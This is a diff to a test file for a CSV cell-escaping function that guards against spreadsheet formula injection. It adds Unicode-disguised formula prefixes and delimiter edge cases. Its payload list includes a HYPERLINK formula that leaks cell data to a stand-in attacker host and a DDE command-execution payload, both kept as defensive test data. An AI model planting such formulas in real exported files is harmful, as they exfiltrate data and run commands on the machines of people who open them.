@@ -17,6 +17,12 @@ const HOSTILE = [
   '\ufeff=1+1',
   '\u200b=1+1',
   '\uff1d1+1',
+  '\uff0b1+1',
+  '\uff0d1+1',
+  '\uff20SUM(1)',
+  '\ufe661+1',
+  '\u200d\u2060\u202e=1+1',
+  '\u00ad\u0000@SUM(1)',
   '=HYPERLINK("http://evil.example?x="&A1,"click")',
   "=cmd|' /C calc'!A0",
   '"=1+1',
@@ -38,8 +44,29 @@ describe('a cell of a CSV file', () => {
   it.each(HOSTILE)('begins no formula: %j', (text) => {
     const lines: string[][] = parse(`${csvCell(text)}\r\n`, { relax_column_count: true });
     const cell = lines[0]?.[0] ?? '';
-    expect(cell.replace(/^[\s\u00a0\ufeff\u200b]+/, '')).not.toMatch(/^[=+\-@\uff1d]/);
+    expect(cell.replace(/^[\s\p{Z}\p{C}]+/u, '')).not.toMatch(/^[=+\-@\uff1d\uff0b\uff0d\uff20\ufe66]/);
     expect(cell.endsWith(text.trimStart()) || cell.endsWith(text)).toBe(true);
+  });
+
+  it.each([
+    ['agreed;=cmd', "agreed;'=cmd"],
+    [';=cmd', "';'=cmd"],
+    [';;=1', "';;'=1"],
+    ['\t=1', "'\t'=1"],
+    ['a; "=1+1', `a; "'=1+1`],
+    ['a\r\n=1+1\n-2', "a\r\n'=1+1\n'-2"],
+    ['a\t\u200b@SUM(1)', "a\t\u200b'@SUM(1)"],
+    ['a=b, c-d, e@f.example, 1+1', 'a=b, c-d, e@f.example, 1+1'],
+    ['Smith; Jones', 'Smith; Jones'],
+  ])('begins no formula where a program takes a semicolon for the end of a cell, either: %j', (text, expected) => {
+    expect(parse(`${csvCell(text)}\r\n`)).toEqual([[expected]]);
+  });
+
+  it('is made in no more time than its length, whatever stands in it', () => {
+    const text = `${'; \t'.repeat(200_000)}x${'"'.repeat(200_000)}`;
+    const begun = performance.now();
+    csvCell(text);
+    expect(performance.now() - begun).toBeLessThan(2_000);
   });
 
   it('keeps numbers numbers, also below zero', () => {
